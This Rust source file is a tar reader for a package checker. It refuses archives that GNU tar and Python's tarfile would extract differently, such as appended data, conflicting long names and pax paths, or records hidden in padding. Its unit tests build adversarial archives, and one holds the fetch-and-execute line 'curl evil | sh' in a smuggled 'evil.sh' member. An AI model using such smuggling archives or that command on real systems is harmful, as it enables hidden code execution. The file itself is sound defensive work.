//! The tar format, read the way its extractors read it, or refused.
//!
//! GNU tar and Python's `tarfile` disagree on corners of the format: which header
//! fields name a member, whose name wins when a GNU long name and a pax `path` both
//! describe one, what a directory's data means, where a pax header ends, and what
//! follows the end-of-archive marker. This reader takes the reading they share and
//! refuses every archive where they could differ, so the bytes hashed are the bytes
//! extracted. Owns the tar layout; must not decide what a member may be (the caller
//! does).

use std::collections::HashSet;
use std::io::{self, Read};
use std::path::Path;

use super::archive::{clipped, read_error, refusal, refused, MemberKind, PackageError, Visitor};
use crate::limits::PackageLimits;

const BLOCK: usize = 512;
/// Pax records and GNU long names are metadata; larger ones are refused.
const MAX_EXTENSION: u64 = 1 << 20;
/// pax global keywords that name nothing and size nothing: what `git archive` writes.
const GLOBAL_KEYWORDS: [&[u8]; 9] = [
    b"comment", b"mtime", b"atime", b"ctime", b"uid", b"gid", b"uname", b"gname", b"charset",
];

/// Streams every member of the tar in `reader` through `visit`, then requires that
/// nothing but zeros follows the end-of-archive marker.
pub fn visit(
    path: &Path,
    reader: impl Read,
    limits: &PackageLimits,
    visit: &mut Visitor<'_>,
) -> Result<(), PackageError> {
    let mut stream = Stream {
        inner: reader,
        pos: 0,
    };
    let mut block = [0u8; BLOCK];
    let mut pending = Pending::default();
    let mut headers = 0usize;
    // A pax global header was read and no member has followed it yet.
    let mut global = false;
    loop {
        let at = stream.pos;
        let more = stream.block(&mut block).map_err(|e| read_error(path, e))?;
        if !more || block.iter().all(|b| *b == 0) {
            if !pending.is_empty() || global {
                // tarfile fails on such an archive: extension headers announce a member.
                return Err(refused(path, "ends with tar extension headers (GNU long names or pax records) that describe no member; it is truncated"));
            }
            return if more {
                rest_is_zeros(path, &mut stream, limits, at)
            } else {
                Ok(())
            };
        }
        headers += 1;
        if headers > limits.max_members.saturating_mul(4) {
            return Err(PackageError::Size(format!(
                "the package holds more than {} tar headers",
                limits.max_members.saturating_mul(4)
            )));
        }
        let header = Header::parse(&block).map_err(|why| {
            refused(
                path,
                format!("has a malformed tar header at byte {at}: {why}; rebuild it with GNU tar or Python's tarfile"),
            )
        })?;
        match header.typeflag {
            b'L' | b'K' => {
                let data = extension(path, &mut stream, &header)?;
                let name = data.split(|b| *b == 0).next().unwrap_or_default().to_vec();
                let slot = if header.typeflag == b'L' {
                    &mut pending.long_name
                } else {
                    &mut pending.long_link
                };
                if slot.is_some() {
                    return Err(refused(path, format!("has two GNU long-name headers for one member at byte {at}; extractors keep different ones")));
                }
                if name.is_empty() {
                    return Err(refused(
                        path,
                        format!("has an empty GNU long-name header at byte {at}"),
                    ));
                }
                *slot = Some(name);
            }
            b'x' | b'X' => {
                if pending.pax.is_some() {
                    return Err(refused(path, format!("has two pax headers for one member at byte {at}; extractors apply them in different orders")));
                }
                let data = extension(path, &mut stream, &header)?;
                pending.pax = Some(Pax::local(&data).map_err(|why| {
                    refused(path, format!("has a pax header at byte {at} that {why}"))
                })?);
            }
            b'g' => {
                if !pending.is_empty() {
                    return Err(refused(path, format!("has a pax global header at byte {at} between a member and its own extension headers; extractors apply them in different orders")));
                }
                let data = extension(path, &mut stream, &header)?;
                for (key, _) in records(&data).map_err(|why| {
                    refused(
                        path,
                        format!("has a pax global header at byte {at} that {why}"),
                    )
                })? {
                    if !GLOBAL_KEYWORDS.contains(&key) {
                        return Err(refused(path, format!("has a pax global header at byte {at} setting {} for every later member, which extractors apply differently; rebuild it without that header", String::from_utf8_lossy(key))));
                    }
                }
                global = true;
            }
            b'S' => {
                return Err(refused(path, format!("holds a GNU sparse member at byte {at}, which extractors expand differently; rebuild it without --sparse")));
            }
            b'M' | b'V' | b'N' => {
                return Err(refused(path, format!("holds a GNU multi-volume, volume-label or old long-name header at byte {at}, which only GNU tar reads; rebuild it as one plain archive")));
            }
            _ => {
                let pending = std::mem::take(&mut pending);
                global = false;
                member(path, &mut stream, &header, pending, at, visit)?;
            }
        }
    }
}

/// One member: its name and size as every extractor reads them, its data streamed.
fn member<R: Read>(
    path: &Path,
    stream: &mut Stream<R>,
    header: &Header<'_>,
    pending: Pending,
    at: u64,
    visit: &mut Visitor<'_>,
) -> Result<(), PackageError> {
    let kind = match header.typeflag {
        b'0' | b'\0' | b'7' => MemberKind::Regular,
        b'1' | b'2' => MemberKind::Link,
        b'3' | b'4' | b'6' => MemberKind::Device,
        b'5' => MemberKind::Directory,
        _ => MemberKind::Other,
    };
    // tarfile reads an old-style regular entry named "x/" as a directory, whatever
    // later names it.
    if header.typeflag == b'\0' && header.name.ends_with(b"/") {
        return Err(refused(path, format!("holds an old-style directory entry at byte {at} that extractors read as a file or a directory; rebuild it with GNU tar or Python's tarfile")));
    }
    let mut name = if header.prefix.is_empty() {
        header.name.to_vec()
    } else if header.ustar {
        [header.prefix, b"/", header.name].concat()
    } else {
        // tarfile joins the prefix field whatever the magic; GNU tar only for ustar.
        return Err(refused(path, format!("has a non-ustar tar header at byte {at} with data in its prefix field, which tarfile reads as part of the name and GNU tar does not")));
    };
    let pax = pending.pax.unwrap_or_default();
    match (pending.long_name, pax.path) {
        (Some(long), Some(p)) if long != p => {
            return Err(refused(path, format!("names the member at byte {at} both by a GNU long name and by a pax path, and they differ; extractors keep different ones")));
        }
        (Some(long), _) => name = long,
        (None, Some(p)) => name = p,
        (None, None) => {}
    }
    let size = pax.size.unwrap_or(header.size);
    let Ok(name) = String::from_utf8(name) else {
        return Err(refused(
            path,
            format!("names the member at byte {at} with bytes that are not UTF-8"),
        ));
    };
    if size != 0 && !matches!(kind, MemberKind::Regular | MemberKind::Other) {
        // tarfile reads no data after a directory, link or device; GNU tar skips it.
        return Err(refused(path, format!("holds {}, a directory, link or device, with {size} bytes of data, which extractors read differently", clipped(&name))));
    }
    if kind == MemberKind::Regular && name.ends_with('/') {
        return Err(refused(path, format!("holds a regular file named {}, with a trailing slash, which extractors read as a directory", clipped(&name))));
    }
    let mut data = Data {
        stream,
        left: size,
        name: &name,
    };
    visit(&name, kind, size, &mut data)?;
    let left = data.left;
    stream
        .skip(left + padding(size), &name)
        .map_err(|e| read_error(path, e))
}

/// The data of an extension header, with its padding, which must be zeros: tarfile
/// reads pax records and long names on into the padding.
fn extension<R: Read>(
    path: &Path,
    stream: &mut Stream<R>,
    header: &Header<'_>,
) -> Result<Vec<u8>, PackageError> {
    if header.size > MAX_EXTENSION {
        return Err(PackageError::Size(format!(
            "the package has a tar extension header of {} bytes, over the {MAX_EXTENSION} read",
            header.size
        )));
    }
    let what = "an extension header";
    let mut data = vec![0u8; (header.size + padding(header.size)) as usize];
    stream
        .read_exact(&mut data, what)
        .map_err(|e| read_error(path, e))?;
    if data[header.size as usize..].iter().any(|b| *b != 0) {
        return Err(refused(path, "has data in the padding of a tar extension header, which tarfile reads as more records and GNU tar skips"));
    }
    data.truncate(header.size as usize);
    Ok(data)
}

fn padding(size: u64) -> u64 {
    (BLOCK as u64 - size % BLOCK as u64) % BLOCK as u64
}

/// After the first zero block every reader stops; anything but zeros after it is
/// data that one reader may extract (`tar -i`, `zipfile` on an appended zip) and the
/// others never see.
fn rest_is_zeros<R: Read>(
    path: &Path,
    stream: &mut Stream<R>,
    limits: &PackageLimits,
    marker: u64,
) -> Result<(), PackageError> {
    let mut buf = vec![0u8; 64 << 10];
    let mut seen = 0u64;
    loop {
        let n = match stream.inner.read(&mut buf) {
            Ok(0) => return Ok(()),
            Ok(n) => n,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
            Err(e) => return Err(read_error(path, e)),
        };
        if let Some(i) = buf[..n].iter().position(|b| *b != 0) {
            let at = marker + BLOCK as u64 + seen + i as u64;
            return Err(refused(path, format!("holds data after its tar end-of-archive marker, at byte {at} of the tar stream, which tar readers skip and other readers may extract; rebuild it as one archive with nothing appended")));
        }
        seen += n as u64;
        if seen > limits.max_bytes {
            return Err(PackageError::Size(format!(
                "the package holds more than {} bytes after its tar end-of-archive marker",
                limits.max_bytes
            )));
        }
    }
}

/// Extension headers read so far for the next member.
#[derive(Default)]
struct Pending {
    long_name: Option<Vec<u8>>,
    long_link: Option<Vec<u8>>,
    pax: Option<Pax>,
}

impl Pending {
    fn is_empty(&self) -> bool {
        self.long_name.is_none() && self.long_link.is_none() && self.pax.is_none()
    }
}

/// What a local pax header says about its member's name and size.
#[derive(Default)]
struct Pax {
    path: Option<Vec<u8>>,
    size: Option<u64>,
}

impl Pax {
    fn local(data: &[u8]) -> Result<Pax, String> {
        let mut pax = Pax::default();
        // A set: a header may hold as many records as MAX_EXTENSION bytes fit, and
        // checking each against a list of the others would take seconds.
        let mut seen: HashSet<&[u8]> = HashSet::new();
        for (key, value) in records(data)? {
            if !seen.insert(key) {
                return Err(format!(
                    "sets {} twice; extractors keep different ones",
                    String::from_utf8_lossy(key)
                ));
            }
            if key.starts_with(b"GNU.sparse.") || key.starts_with(b"SCHILY.sparse") {
                return Err(
                    "describes a sparse file, which extractors expand differently".to_string(),
                );
            }
            match key {
                b"path" => pax.path = Some(value.to_vec()),
                b"size" => {
                    pax.size = Some(decimal(value).ok_or_else(|| {
                        format!(
                            "gives a size that is not a decimal number: {:?}",
                            String::from_utf8_lossy(value)
                        )
                    })?)
                }
                _ => {}
            }
        }
        Ok(pax)
    }
}

fn decimal(s: &[u8]) -> Option<u64> {
    if s.is_empty() || !s.iter().all(u8::is_ascii_digit) {
        return None;
    }
    s.iter().try_fold(0u64, |n, d| {
        n.checked_mul(10)?.checked_add(u64::from(d - b'0'))
    })
}

/// One pax record: its keyword and value.
type Record<'d> = (&'d [u8], &'d [u8]);

/// pax records, `"<length> <keyword>=<value>\n"`, tiling `data` exactly.
fn records(data: &[u8]) -> Result<Vec<Record<'_>>, String> {
    let mut out = Vec::new();
    let mut pos = 0;
    while pos < data.len() {
        let rest = &data[pos..];
        let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
        let length = decimal(&rest[..digits])
            .and_then(|n| usize::try_from(n).ok())
            .filter(|_| rest.get(digits) == Some(&b' '))
            .ok_or("holds a record that does not start with its length")?;
        if length < digits + 4 || length > rest.len() {
            return Err("holds a record whose length runs past the header".into());
        }
        let body = &rest[digits + 1..length];
        let Some((b'\n', body)) = body.split_last().map(|(l, b)| (*l, b)) else {
            return Err("holds a record that does not end with a newline".into());
        };
        let eq = body
            .iter()
            .position(|b| *b == b'=')
            .filter(|&i| i > 0)
            .ok_or("holds a record without a keyword")?;
        out.push((&body[..eq], &body[eq + 1..]));
        pos += length;
    }
    Ok(out)
}

/// The fields of one header block that decide what is extracted.
struct Header<'b> {
    name: &'b [u8],
    prefix: &'b [u8],
    ustar: bool,
    size: u64,
    typeflag: u8,
}

fn until_nul(field: &[u8]) -> &[u8] {
    field.split(|b| *b == 0).next().unwrap_or_default()
}

impl<'b> Header<'b> {
    fn parse(b: &'b [u8; BLOCK]) -> Result<Header<'b>, String> {
        let stated = octal(&b[148..156])
            .ok_or("its checksum is not an octal number")?
            .ok_or("its checksum is empty")?;
        let sum: u64 = b
            .iter()
            .enumerate()
            .map(|(i, &x)| {
                if (148..156).contains(&i) {
                    32
                } else {
                    u64::from(x)
                }
            })
            .sum();
        if sum != stated {
            return Err("its checksum does not match".into());
        }
        // tarfile parses every numeric field and stops reading at one it cannot; GNU
        // tar fails on a mode, owner or device number out of its type's range.
        for (what, range, required, max) in [
            ("mode", 100..108, true, 0o7777777),
            ("uid", 108..116, true, u64::from(u32::MAX)),
            ("gid", 116..124, true, u64::from(u32::MAX)),
            ("mtime", 136..148, true, u64::MAX),
            ("devmajor", 329..337, false, u64::from(u32::MAX)),
            ("devminor", 337..345, false, u64::from(u32::MAX)),
        ] {
            match number(&b[range], required) {
                Err(why) => return Err(format!("its {what} field {why}")),
                Ok(Some(n)) if n > max => return Err(format!("its {what} field is out of range")),
                Ok(None) if what != "mtime" => return Err(format!("its {what} field is negative")),
                Ok(_) => {}
            }
        }
        let size = number(&b[124..136], true)
            .map_err(|why| format!("its size field {why}"))?
            .ok_or("its size is negative")?;
        Ok(Header {
            name: until_nul(&b[..100]),
            prefix: until_nul(&b[345..500]),
            ustar: &b[257..263] == b"ustar\0",
            size,
            typeflag: b[156],
        })
    }
}

/// Octal digits between optional spaces, ended by NUL or the field's end: what
/// tarfile's `nti` and GNU tar's `from_header` both read alike. `None` when not that;
/// `Some(None)` when blank.
fn octal(field: &[u8]) -> Option<Option<u64>> {
    let text = until_nul(field);
    let start = text.iter().position(|b| *b != b' ').unwrap_or(text.len());
    let end = text
        .iter()
        .rposition(|b| *b != b' ')
        .map_or(start, |i| i + 1);
    let digits = &text[start..end];
    if digits.is_empty() {
        return Some(None);
    }
    if !digits.iter().all(|d| (b'0'..=b'7').contains(d)) {
        return None;
    }
    digits
        .iter()
        .try_fold(0u64, |n, d| {
            n.checked_mul(8)?.checked_add(u64::from(d - b'0'))
        })
        .map(Some)
}

/// A numeric field: octal, or GNU base-256 (`0x80` positive, `0xff` negative, read
/// as `None`). Blank only where GNU tar does not read the field.
fn number(field: &[u8], required: bool) -> Result<Option<u64>, &'static str> {
    match field[0] {
        0x80 => field[1..]
            .iter()
            .try_fold(0u64, |n, b| n.checked_mul(256)?.checked_add(u64::from(*b)))
            .map(Some)
            .ok_or("is too large"),
        0xff => Ok(None),
        _ => match octal(field) {
            None => Err("is not an octal number"),
            Some(None) if required => Err("is empty"),
            Some(n) => Ok(Some(n.unwrap_or(0))),
        },
    }
}

/// Whether `block` passes the header check of tarfile and GNU tar (either checksum,
/// lenient numbers): a zip that also reads as a tar is refused.
pub fn is_header(block: &[u8]) -> bool {
    if block.len() < BLOCK || block.iter().all(|b| *b == 0) {
        return false;
    }
    let text = String::from_utf8_lossy(until_nul(&block[148..156]));
    let text = text.trim().trim_start_matches("0o").replace('_', "");
    let Ok(stated) = i64::from_str_radix(if text.is_empty() { "0" } else { &text }, 8) else {
        return false;
    };
    let field = |i: usize| (148..156).contains(&i);
    let unsigned: i64 = block[..BLOCK]
        .iter()
        .enumerate()
        .map(|(i, &x)| if field(i) { 32 } else { i64::from(x) })
        .sum();
    let signed: i64 = block[..BLOCK]
        .iter()
        .enumerate()
        .map(|(i, &x)| if field(i) { 32 } else { i64::from(x as i8) })
        .sum();
    stated == unsigned || stated == signed
}

struct Stream<R> {
    inner: R,
    pos: u64,
}

impl<R: Read> Stream<R> {
    /// A whole block, or `false` at a clean end of the stream.
    fn block(&mut self, buf: &mut [u8; BLOCK]) -> io::Result<bool> {
        let n = self.fill(buf)?;
        match n {
            0 => Ok(false),
            BLOCK => Ok(true),
            _ => Err(refusal(format!(
                "ends inside a tar header, at byte {} of the tar stream; it is truncated",
                self.pos
            ))),
        }
    }

    fn fill(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let mut n = 0;
        while n < buf.len() {
            match self.inner.read(&mut buf[n..]) {
                Ok(0) => break,
                Ok(k) => n += k,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                Err(e) => return Err(e),
            }
        }
        self.pos += n as u64;
        Ok(n)
    }

    fn read_exact(&mut self, buf: &mut [u8], what: &str) -> io::Result<()> {
        if self.fill(buf)? < buf.len() {
            return Err(truncated(what));
        }
        Ok(())
    }

    fn skip(&mut self, mut n: u64, what: &str) -> io::Result<()> {
        let mut buf = [0u8; 8 << 10];
        while n > 0 {
            let k = n.min(buf.len() as u64) as usize;
            self.read_exact(&mut buf[..k], what)?;
            n -= k as u64;
        }
        Ok(())
    }
}

fn truncated(what: &str) -> io::Error {
    refusal(format!("ends inside {what}; it is truncated"))
}

/// A member's data: exactly its size, and an error if the stream ends first.
struct Data<'s, R> {
    stream: &'s mut Stream<R>,
    left: u64,
    name: &'s str,
}

impl<R: Read> Read for Data<'_, R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        if self.left == 0 || buf.is_empty() {
            return Ok(0);
        }
        let max = buf
            .len()
            .min(usize::try_from(self.left).unwrap_or(usize::MAX));
        let n = self.stream.inner.read(&mut buf[..max])?;
        if n == 0 {
            return Err(truncated(&format!("the data of {}", self.name)));
        }
        self.left -= n as u64;
        self.stream.pos += n as u64;
        Ok(n)
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// A ustar header block for `name`, with `typeflag` and `size`, checksum filled in.
    pub fn header(name: &[u8], typeflag: u8, size: u64) -> [u8; BLOCK] {
        let mut b = [0u8; BLOCK];
        b[..name.len()].copy_from_slice(name);
        b[100..108].copy_from_slice(b"0000644\0");
        b[108..116].copy_from_slice(b"0000000\0");
        b[116..124].copy_from_slice(b"0000000\0");
        b[124..136].copy_from_slice(format!("{size:011o}\0").as_bytes());
        b[136..148].copy_from_slice(b"00000000000\0");
        b[156] = typeflag;
        b[257..263].copy_from_slice(b"ustar\0");
        b[263..265].copy_from_slice(b"00");
        seal(&mut b);
        b
    }

    /// Recomputes a header's checksum after it was edited.
    pub fn seal(b: &mut [u8; BLOCK]) {
        b[148..156].copy_from_slice(b"        ");
        let sum: u32 = b.iter().map(|&x| u32::from(x)).sum();
        b[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    }

    /// One entry: its header then its data, padded.
    pub fn entry(name: &[u8], typeflag: u8, data: &[u8]) -> Vec<u8> {
        let mut out = header(name, typeflag, data.len() as u64).to_vec();
        out.extend_from_slice(data);
        out.resize(out.len() + padding(data.len() as u64) as usize, 0);
        out
    }

    pub fn pax(records: &[(&str, &str)]) -> Vec<u8> {
        let mut data = Vec::new();
        for (k, v) in records {
            let body = format!(" {k}={v}\n");
            let mut n = body.len() + 1;
            while format!("{n}{body}").len() != n {
                n += 1;
            }
            data.extend_from_slice(format!("{n}{body}").as_bytes());
        }
        data
    }

    pub fn end() -> Vec<u8> {
        vec![0u8; 2 * BLOCK]
    }

    /// What `visit` sees: (name, kind, data), or the refusal.
    pub fn members(tar: &[u8]) -> Result<Vec<(String, MemberKind, Vec<u8>)>, String> {
        let mut out = Vec::new();
        let limits = PackageLimits::default();
        super::visit(Path::new("p.tar"), tar, &limits, &mut |name, kind, _, r| {
            let mut data = Vec::new();
            r.read_to_end(&mut data)
                .map_err(|e| PackageError::Unreadable(e.to_string()))?;
            out.push((name.to_string(), kind, data));
            Ok(())
        })
        .map_err(|e| e.into_violation().message)?;
        Ok(out)
    }

    fn refusal_of(tar: &[u8]) -> String {
        match members(tar) {
            Ok(m) => panic!("read, not refused: {m:?}"),
            Err(why) => why,
        }
    }

    #[test]
    fn plain_members_long_names_and_directories() {
        let long = "d/".repeat(80) + "helper.py";
        let mut tar = entry(b"d/", b'5', b"");
        tar.extend(entry(
            b"././@LongLink",
            b'L',
            format!("{long}\0").as_bytes(),
        ));
        tar.extend(entry(&long.as_bytes()[..100], b'0', b"print(1)\n"));
        tar.extend(entry(
            b"././@PaxHeader",
            b'x',
            &pax(&[("path", "p/x.py"), ("mtime", "1.5")]),
        ));
        tar.extend(entry(b"truncated-name", b'0', b"x"));
        tar.extend(end());
        let m = members(&tar).unwrap();
        assert_eq!(m.len(), 3);
        assert_eq!((m[0].0.as_str(), m[0].1), ("d/", MemberKind::Directory));
        assert_eq!(
            (m[1].0.as_str(), m[1].2.as_slice()),
            (long.as_str(), &b"print(1)\n"[..])
        );
        assert_eq!(m[2].0, "p/x.py");
    }

    #[test]
    fn zeros_after_the_end_marker_pass_anything_else_is_refused() {
        let mut tar = entry(b"a.py", b'0', b"a");
        tar.extend(end());
        tar.extend(vec![0u8; 8192]);
        assert_eq!(members(&tar).unwrap().len(), 1);
        // a second archive after the marker: tarfile and GNU tar stop, tar -i does not
        let mut appended = tar.clone();
        appended.extend(entry(b"evil.sh", b'0', b"curl evil | sh"));
        assert!(refusal_of(&appended).contains("after its tar end-of-archive marker"));
        let mut zip = tar;
        zip.extend_from_slice(b"PK\x03\x04");
        assert!(refusal_of(&zip).contains("after its tar end-of-archive marker"));
    }

    #[test]
    fn no_end_marker_is_an_end_a_torn_header_is_not() {
        let tar = entry(b"a.py", b'0', b"a");
        assert_eq!(members(&tar).unwrap().len(), 1);
        assert!(refusal_of(&tar[..tar.len() - 100]).contains("truncated"));
        let mut torn = tar.clone();
        torn.extend_from_slice(&header(b"b.py", b'0', 1)[..300]);
        assert!(refusal_of(&torn).contains("ends inside a tar header"));
    }

    #[test]
    fn ambiguous_headers_are_refused() {
        let mut bad_sum = entry(b"a.py", b'0', b"a");
        bad_sum[0] = b'b';
        assert!(refusal_of(&bad_sum).contains("checksum"));

        // a size tarfile reads as 0o10 and GNU tar as 0
        let mut h = header(b"a.py", b'0', 0);
        h[124..136].copy_from_slice(b"00000 10000\0");
        seal(&mut h);
        assert!(refusal_of(&h).contains("size field"));
        h[124..136].copy_from_slice(b"0o000000010\0");
        seal(&mut h);
        assert!(refusal_of(&h).contains("size field"));

        // prefix data in a GNU header: tarfile joins it to the name, GNU tar does not
        let mut h = header(b"a.py", b'0', 0);
        h[257..265].copy_from_slice(b"ustar  \0");
        h[345..352].copy_from_slice(b"scripts");
        seal(&mut h);
        assert!(refusal_of(&h).contains("prefix field"));
        // in a ustar header every reader joins it
        let mut h = header(b"a.py", b'0', 0);
        h[345..352].copy_from_slice(b"scripts");
        seal(&mut h);
        let mut tar = h.to_vec();
        tar.extend(end());
        assert_eq!(members(&tar).unwrap()[0].0, "scripts/a.py");
    }

    #[test]
    fn long_name_and_pax_path_disagreeing_are_refused() {
        let mut tar = entry(b"././@LongLink", b'L', b"good.py\0");
        tar.extend(entry(b"././@PaxHeader", b'x', &pax(&[("path", "evil.py")])));
        tar.extend(entry(b"x", b'0', b"data"));
        assert!(refusal_of(&tar).contains("GNU long name and by a pax path"));
        // two of one kind
        let mut tar = entry(b"././@PaxHeader", b'x', &pax(&[("path", "a")]));
        tar.extend(entry(b"././@PaxHeader", b'x', &pax(&[("path", "b")])));
        tar.extend(entry(b"x", b'0', b""));
        assert!(refusal_of(&tar).contains("two pax headers"));
        // a pax header in a pre-POSIX header is still a pax header, as tarfile reads it
        let mut x = header(b"PaxHeader", b'x', 0);
        x[257..265].fill(0);
        let data = pax(&[("path", "renamed.py")]);
        x[124..136].copy_from_slice(format!("{:011o}\0", data.len()).as_bytes());
        seal(&mut x);
        let mut tar = x.to_vec();
        tar.extend_from_slice(&data);
        tar.resize(tar.len() + padding(data.len() as u64) as usize, 0);
        tar.extend(entry(b"helper.py", b'0', b"data"));
        assert_eq!(members(&tar).unwrap()[0].0, "renamed.py");
    }

    #[test]
    fn extension_headers_are_read_strictly() {
        // records hidden in the padding: tarfile reads them, GNU tar does not
        let data = pax(&[("mtime", "1")]);
        let hidden = pax(&[("path", "evil.sh")]);
        let mut tar = header(b"././@PaxHeader", b'x', data.len() as u64).to_vec();
        tar.extend_from_slice(&data);
        tar.extend_from_slice(&hidden);
        tar.resize(BLOCK * 2, 0);
        tar.extend(entry(b"helper.py", b'0', b""));
        assert!(refusal_of(&tar).contains("padding"));
        for bad in [&b"5 a=b\n"[..], b"7 path=x", b"x path=y\n", b"9 novalue\n"] {
            let mut tar = entry(b"././@PaxHeader", b'x', bad);
            tar.extend(entry(b"a", b'0', b""));
            assert!(refusal_of(&tar).contains("pax header"), "{bad:?}");
        }
        let mut tar = entry(
            b"././@PaxHeader",
            b'x',
            &pax(&[("path", "a"), ("path", "b")]),
        );
        tar.extend(entry(b"a", b'0', b""));
        assert!(refusal_of(&tar).contains("twice"));
        let mut tar = entry(b"././@PaxHeader", b'x', &pax(&[("GNU.sparse.name", "a")]));
        tar.extend(entry(b"a", b'0', b""));
        assert!(refusal_of(&tar).contains("sparse"));
        // a global header may carry a comment (git archive), never a path
        let mut tar = entry(b"pax_global_header", b'g', &pax(&[("comment", "abc")]));
        tar.extend(entry(b"a", b'0', b""));
        assert_eq!(members(&tar).unwrap().len(), 1);
        let mut tar = entry(b"pax_global_header", b'g', &pax(&[("path", "evil")]));
        tar.extend(entry(b"a", b'0', b""));
        assert!(refusal_of(&tar).contains("global header"));
        // extension headers describing nothing, before the end marker or the end
        let tar = entry(b"././@LongLink", b'L', b"a\0");
        assert!(refusal_of(&tar).contains("describe no member"));
        let mut tar = entry(b"a", b'0', b"");
        tar.extend(entry(
            b"pax_global_header",
            b'g',
            &pax(&[("comment", "abc")]),
        ));
        tar.extend(end());
        assert!(refusal_of(&tar).contains("describe no member"));
    }

    #[test]
    fn pax_size_is_the_size() {
        let mut tar = entry(b"././@PaxHeader", b'x', &pax(&[("size", "3")]));
        let mut h = header(b"a.py", b'0', 0);
        h[124..136].copy_from_slice(b"00000000000\0");
        seal(&mut h);
        tar.extend_from_slice(&h);
        tar.extend_from_slice(b"abc");
        tar.resize(tar.len() + BLOCK - 3, 0);
        tar.extend(end());
        assert_eq!(members(&tar).unwrap()[0].2, b"abc");
        let mut tar = entry(b"././@PaxHeader", b'x', &pax(&[("size", "1_0")]));
        tar.extend(entry(b"a", b'0', b""));
        assert!(refusal_of(&tar).contains("decimal"));
    }

    #[test]
    fn data_on_non_files_and_odd_types_are_refused() {
        // tarfile reads the next header where GNU tar skips a directory's data
        let mut tar = entry(b"d/", b'5', &header(b"evil.sh", b'0', 0));
        tar.extend(end());
        assert!(refusal_of(&tar).contains("bytes of data"));
        let tar = entry(b"link", b'2', b"x");
        assert!(refusal_of(&tar).contains("bytes of data"));
        let tar = entry(b"old/", b'\0', b"");
        assert!(refusal_of(&tar).contains("old-style directory"));
        let tar = entry(b"a.py/", b'0', b"");
        assert!(refusal_of(&tar).contains("trailing slash"));
        let tar = entry(b"s", b'S', b"");
        assert!(refusal_of(&tar).contains("sparse"));
        let tar = entry(b"\xff.py", b'0', b"");
        assert!(refusal_of(&tar).contains("not UTF-8"));
        // unknown types are members of their own kind, their data skipped
        let mut tar = entry(b"odd", b'Z', b"data");
        tar.extend(entry(b"a", b'0', b"a"));
        let m = members(&tar).unwrap();
        assert_eq!((m[0].1, m[1].0.as_str()), (MemberKind::Other, "a"));
    }

    #[test]
    fn a_zip_header_is_not_a_tar_header() {
        let mut block = [0u8; BLOCK];
        block[..4].copy_from_slice(b"PK\x03\x04");
        assert!(!is_header(&block));
        assert!(is_header(&header(b"a", b'0', 0)));
    }
}
